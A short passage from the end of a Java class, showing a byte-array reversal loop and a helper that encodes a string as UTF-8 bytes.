            reversed[i] = bytes[bytes.length - 1 - i];
        }
        return reversed;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
